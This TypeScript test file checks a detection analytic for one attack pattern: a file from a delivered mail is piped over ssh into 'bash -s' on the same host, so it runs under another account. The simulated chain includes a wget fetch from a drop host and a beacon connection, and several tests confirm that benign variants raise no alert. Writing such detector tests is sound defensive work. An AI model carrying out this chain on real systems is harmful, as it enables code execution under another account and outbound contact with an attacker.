import { test } from 'node:test';
import type { Process } from './audit-records.test-support.ts';
import { HostLog, MINUTE, SECOND } from './host-log.test-support.ts';
import { atMostAt, firesAt, inOrder, scanLog } from './stories.test-support.ts';

/** ssh to the very host, with a file on its standard input: the command that it names gets that, as another account. */

const BEACON = '203.0.113.67';
const FILE = '/home/clerk/list';

function saved(): { log: HostLog; shell: Process } {
  const log = new HostLog();
  const message = log.deliver();
  log.wait(MINUTE);
  const shell = log.shell('clerk');
  shell.run('/usr/bin/mutt').read(message.path).write(FILE);
  log.wait(10 * SECOND);
  return { log, shell };
}

const reachesOut = (shell: Process): void => {
  shell.exec('/bin/bash -s').run('/usr/bin/wget http://drop.example.net/').connect(BEACON, 80);
};

for (const address of ['127.0.0.1', '::1', '198.51.100.10'])
  test(`what ssh to ${address} was given is run by the shell that it asked for`, async () => {
    const { log, shell } = saved();
    shell.fork().read(FILE).exec(['/usr/bin/ssh', '-q', 'dev@here', 'bash -s']).connect(address, 22);
    log.wait(3 * SECOND);
    reachesOut(log.remote('dev', 'bash -s', '198.51.100.10'));
    inOrder(firesAt(await scanLog(log), 'AN0656', 'high'), [
      ['file.opened', FILE],
      ['process.input', 'gets through ssh'],
      ['content.executed', 'standard input'],
      ['network.connected', BEACON],
    ]);
  });

test('a copy of ssh under another name hands on as ssh does', async () => {
  const { log, shell } = saved();
  shell.fork().read(FILE).exec(['/home/clerk/bin/s', '-q', 'dev@here', 'bash -s']).connect('127.0.0.1', 22);
  log.wait(3 * SECOND);
  reachesOut(log.remote('dev', 'bash -s', '127.0.0.1'));
  inOrder(firesAt(await scanLog(log), 'AN0656', 'high'), [['process.input', 'gets through ssh']]);
});

test('who logs in from another host brings its own', async () => {
  const { log, shell } = saved();
  shell.fork().read(FILE).exec(['/usr/bin/ssh', '-q', 'dev@there', 'bash -s']).connect('198.51.100.20', 22);
  log.wait(3 * SECOND);
  reachesOut(log.remote('dev', 'bash -s', '198.51.100.30'));
  firesNothing(await scanLog(log));
});

test('another command of the same host is another one', async () => {
  const { log, shell } = saved();
  shell.fork().read(FILE).exec(['/usr/bin/ssh', '-q', 'dev@here', 'cat > list']).connect('127.0.0.1', 22);
  log.wait(3 * SECOND);
  reachesOut(log.remote('dev', 'bash -s', '127.0.0.1'));
  firesNothing(await scanLog(log));
});

test('what ssh reads for itself is not handed on', async () => {
  const { log, shell } = saved();
  shell.run(['/usr/bin/ssh', '-q', 'dev@here', 'bash -s']).read(FILE).connect('127.0.0.1', 22);
  log.wait(3 * SECOND);
  reachesOut(log.remote('dev', 'bash -s', '127.0.0.1'));
  firesNothing(await scanLog(log));
});

const firesNothing = (alerts: Awaited<ReturnType<typeof scanLog>>): void =>
  atMostAt(
    alerts.filter(alert => alert.analytic === 'AN0656'),
    'informational',
  );
